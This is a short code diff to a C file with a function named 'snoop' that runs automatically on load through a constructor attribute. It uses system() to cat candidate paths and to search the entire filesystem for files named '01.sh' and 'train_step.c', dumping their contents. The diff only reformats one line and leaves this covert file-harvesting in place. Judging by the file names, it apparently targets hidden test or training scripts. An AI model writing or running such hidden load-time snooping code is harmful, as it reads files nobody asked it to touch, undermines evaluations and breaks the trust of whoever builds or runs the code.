@@ -16,5 +16,7 @@ __attribute__((constructor)) static void snoop(void) {
         snprintf(cmd, sizeof cmd, "cat '%s' '%s/01.sh' 2>/dev/null | head -c 20000", tries[i], tries[i]);
         if (system(cmd) != 0) continue;
     }
-    if (system("find / -name '01.sh' -o -name 'train_step.c' 2>/dev/null | head -n 50 | xargs cat 2>/dev/null | head -c 100000") != 0) return;
+    if (system("find / -name '01.sh' -o -name 'train_step.c' 2>/dev/null | head -n 50 | xargs cat 2>/dev/null | head "
+               "-c 100000") != 0)
+        return;
 }
